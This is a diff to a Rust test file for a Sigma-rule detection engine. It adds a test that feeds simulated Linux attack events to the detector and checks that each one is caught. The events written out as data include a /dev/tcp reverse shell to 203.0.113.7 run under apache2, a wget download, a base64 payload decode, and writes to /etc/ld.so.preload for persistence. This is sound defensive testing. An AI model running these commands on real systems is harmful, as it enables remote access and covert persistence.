@@ -2,6 +2,7 @@
 //! They are not in the project: where they are not at hand, these tests say so.
 
 use super::*;
+use serde_json::json;
 use std::collections::BTreeSet;
 use std::path::PathBuf;
 
@@ -23,8 +24,14 @@ fn every_rule_loads() {
         assert!(report.skipped.is_empty(), "{part}: {:?}", report.skipped);
         assert!(report.passed_over.is_empty(), "{part}: {:?}", report.passed_over);
         assert_eq!(rules.len(), report.files, "{part}");
-        let blind = report.never_fires().filter(|(_, why)| !why.contains("service")).count();
-        assert_eq!(blind, 0, "{part}: every rule about a source that quell has can fire");
+        let blind: BTreeSet<&str> =
+            report.never_fires().map(|(_, why)| why).filter(|why| !why.contains("service")).collect();
+        let wanted = if part == "sigma/linux" { &["no source gives `DestinationHostname`"][..] } else { &[] };
+        assert_eq!(
+            blind.into_iter().collect::<Vec<_>>(),
+            wanted,
+            "{part}: the others of a source that quell has can fire"
+        );
     }
 }
 
@@ -55,4 +62,47 @@ fn recorded_attacks_on_aws_are_found() {
     ] {
         assert!(found.contains(wanted), "{wanted}: {found:#?}");
     }
+}
+
+#[test]
+fn attacks_on_linux_are_found_and_explained() {
+    let Some(dir) = shared("sigma/linux") else { return };
+    let (rules, _) = Rules::load(&[RuleSource::Dir(dir)], &[]);
+    let mut detector = Detector::new(Arc::new(rules));
+    let run_of = |image: &str, args: &[&str], parent: &str| {
+        let line = args.join(" ");
+        event(
+            Class::ProcessCreation,
+            &line,
+            0,
+            json!({"Image": image, "CommandLine": line, "ParentImage": parent, "User": "www-data"}),
+            json!({"process": {"image": image, "args": args, "command_line": line}}),
+        )
+    };
+    let write = |path: &str| {
+        let own = json!({"process": {"image": "/usr/bin/tee"}, "file": {"path": path, "operation": "create"}});
+        event(Class::FileEvent, path, 0, json!({"TargetFilename": path, "Image": "/usr/bin/tee"}), own)
+    };
+    let rows = [
+        (
+            run_of("/usr/bin/bash", &["bash", "-c", "sh -i >& /dev/tcp/203.0.113.7/4444 0>&1"], "/usr/sbin/apache2"),
+            "process_creation",
+        ),
+        (run_of("/usr/bin/base64", &["base64", "-d", "payload"], "/usr/bin/bash"), "process_creation"),
+        (run_of("/usr/sbin/getcap", &["getcap", "-r", "/"], "/usr/bin/bash"), "auditd"),
+        (run_of("/usr/bin/wget", &["wget", "http://203.0.113.7/x"], "/usr/bin/bash"), "auditd"),
+        (write("/etc/ld.so.preload"), "auditd"),
+        (write("/etc/profile.d/x.sh"), "file_event"),
+    ];
+    for (event, source) in rows {
+        let found = run(&mut detector, &event);
+        let titles: Vec<&str> = found.iter().map(|detection| &*detection.rule.title).collect();
+        println!("{}: {titles:?}", event.head.id);
+        assert!(!found.is_empty(), "{source}: {}", event.head.id);
+        for detection in &found {
+            assert!(!detection.matched.is_empty(), "{}: nothing explains it", detection.rule.title);
+        }
+    }
+    let honest = run_of("/usr/bin/ls", &["ls", "-l", "/srv"], "/usr/bin/bash");
+    assert_eq!(names(&run(&mut detector, &honest)), Vec::<&str>::new());
 }
